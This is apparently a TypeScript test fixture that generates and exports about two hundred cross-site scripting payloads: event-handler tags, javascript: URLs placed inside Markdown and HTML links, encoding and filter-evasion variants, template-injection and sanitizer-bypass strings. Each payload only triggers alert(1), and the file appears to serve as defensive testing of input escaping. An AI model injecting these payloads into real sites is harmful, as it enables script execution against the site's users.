// Two hundred strings that run a script wherever a page does not escape what people type.

/** `alert(1)` in ways that filters have missed. */
const CALLS = [
  "alert(1)",
  "alert`1`",
  "top['al'+'ert'](1)",
  "self[/ale/.source+/rt/.source](1)",
  "(alert)(1)",
];

/** Elements that run a handler by themselves, `%` being the call. */
const HANDLERS = [
  "<img src=x onerror=%>",
  '<img src=x onerror="%">',
  "<IMG SRC=x oNeRrOr=%>",
  "<svg onload=%>",
  "<svg/onload=%>",
  "<body onload=%>",
  "<details open ontoggle=%>",
  "<video src=x onerror=%></video>",
  "<audio src=x onerror=%></audio>",
  "<iframe onload=%></iframe>",
  "<input autofocus onfocus=%>",
  "<select autofocus onfocus=%>",
  "<marquee onstart=%>",
  "<video><source onerror=%>",
  "<object data=x onerror=%></object>",
  "<svg><animate onbegin=% attributeName=x>",
  "<style onload=%></style>",
  "<link rel=stylesheet href=x onerror=%>",
  '"><img src=x onerror=%>',
  "'><img src=x onerror=%>",
  '" autofocus onfocus=% x="',
  "' autofocus onfocus=% x='",
  "</textarea><img src=x onerror=%>",
  "</title><svg onload=%>",
  "</script><script>%</script>",
  "<script>%</script>",
  "<ScRiPt>%</sCrIpT>",
  "<script src=data:,%></script>",
  "<scr<script>ipt>%</scr</script>ipt>",
];

/** URLs that are scripts, `%` being the call. */
const URLS = [
  "javascript:%",
  "JaVaScRiPt:%",
  " javascript:%",
  "java\tscript:%",
  "java\nscript:%",
  "\u0001javascript:%",
  "javascript&colon;%",
  "&#106;avascript:%",
  "javascript://example.com/%0a%",
  "data:text/html,<script>%</script>",
  "vbscript:%",
];

/** Where a message's Markdown, or a page, could put a URL. */
const PLACES = [
  "%",
  "[click](%)",
  "[click](<%>)",
  "![x](%)",
  "<%>",
  "[click][1]\n\n[1]: %",
  "<a href='%'>click</a>",
  "<iframe src='%'></iframe>",
];

const OTHERS = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "__proto__",
  "constructor",
  "<!--<img src=--><img src=x onerror=alert(1)//>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<base href=javascript:alert(1)//>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<a href=x onclick=alert(1)>x</a>",
  "<embed src=javascript:alert(1)>",
  "<!--frsh:island:0-->",
  "<!--/frsh:island:0--><script>alert(1)</script>",
  "```\n</code></pre><img src=x onerror=alert(1)>\n```",
  "`<img src=x onerror=alert(1)>`",
  "**<img src=x onerror=alert(1)>**",
  "> <img src=x onerror=alert(1)>",
  'http://example.com/"onmouseover="alert(1)',
  "https://example.com/<svg onload=alert(1)>",
  "mailto:a@example.com?subject=<script>alert(1)</script>",
  "[x](https://example.com 'title\" onmouseover=\"alert(1)')",
  '[x](https://example.com"onmouseover=alert(1)//)',
  "x';alert(1)//",
  'x";alert(1)//',
  "x\\';alert(1)//",
  "'-alert(1)-'",
  "]}');alert(1)//",
  "\u2028alert(1)\u2029",
  "</script >alert(1)<script >",
];

const fill = (text: string, call: string) => text.replaceAll("%", call);

/** The strings, each another. */
export const XSS: readonly string[] = [
  ...new Set([
    ...HANDLERS.flatMap((handler, i) => [
      fill(handler, CALLS[0]),
      fill(handler, CALLS[1 + i % 4]),
      fill(handler, CALLS[1 + (i + 1) % 4]),
    ]),
    ...URLS.flatMap((url) => {
      const script = fill(url, CALLS[0]);
      return PLACES.map((place) => fill(place, script));
    }),
    ...OTHERS,
    ...CALLS.map((call) => `<script>${call}</script>`),
  ]),
];
